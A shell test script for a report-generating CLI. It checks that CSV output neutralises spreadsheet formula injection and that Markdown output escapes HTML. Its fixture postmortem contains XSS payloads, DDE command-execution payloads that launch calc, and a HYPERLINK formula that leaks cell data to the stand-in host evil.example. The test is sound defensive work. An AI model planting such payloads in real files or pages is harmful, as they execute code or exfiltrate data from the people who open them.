#!/bin/sh
# t043 (issue 12 item 7): a report quotes a postmortem without letting it
# act. CSV cells a spreadsheet would evaluate (beginning with = + - @, tab
# or CR) get a leading ' and are quoted, as OWASP recommends; the Markdown
# report writes < > & as entities, so raw HTML never passes.
. "$REPO/tests/cli/lib.sh"
keep_going

mkdir pm
cat >pm/inject.md <<'EOF2'
# Checkout <img src=x onerror=alert(1)> & friends

**Date**: 2026-03-04
**Severity**: SEV2

## Root cause

A <script>alert(1)</script> in the page.

## Action items

| Action | Owner | Due | Status |
|---|---|---|---|
| =HYPERLINK("http://evil.example/?x="&A1,"click") | Sam | 2026-03-10 | open |
| +1+cmd\|' /C calc'!A0 | Sam | 2026-03-10 | open |
| -2+3 | Sam | 2026-03-10 | open |
| @SUM(1+1)*cmd\|' /C calc'!A0 | =Eve | 2026-03-10 | open |
| <img src=x onerror=alert(2)> | Sam | 2026-03-10 | open |
EOF2
printf '\n- [ ] \tTab leading action (owner: Sam, due 2026-03-10)\n' >>pm/inject.md

hs index pm
assert_exit 0
hs report overdue --as-of 2026-04-01 --format csv
assert_exit 0
cp out report.csv
checking "no CSV cell of the report begins with = + - @ tab or CR"
python3 - <<'PY' || fail "a CSV cell a spreadsheet would evaluate"
import csv, sys
rows = list(csv.reader(open("report.csv", newline="", encoding="utf-8")))
bad = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
if bad:
    print("cells:", bad, file=sys.stderr)
    sys.exit(1)
actions = [r[1] for r in rows[1:]]
for want in ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'-2+3",
             "'+1+cmd|' /C calc'!A0"]:
    if want not in actions:
        print("missing", want, "in", actions, file=sys.stderr)
        sys.exit(1)
if "'=Eve" not in [r[2] for r in rows[1:]]:
    print("owner =Eve not escaped", file=sys.stderr)
    sys.exit(1)
PY
assert_contains report.csv ",\"'-2+3\","

for kind in overdue weekly; do
    hs report $kind --as-of 2026-04-01
    assert_exit 0
    assert_not_contains out "<img"
    assert_not_contains out "<script"
    assert_contains out "&lt;img src=x onerror=alert(2)&gt;"
done
hs report overdue --as-of 2026-04-01
assert_contains out '=HYPERLINK("http://evil.example/?x="&amp;A1'
finish
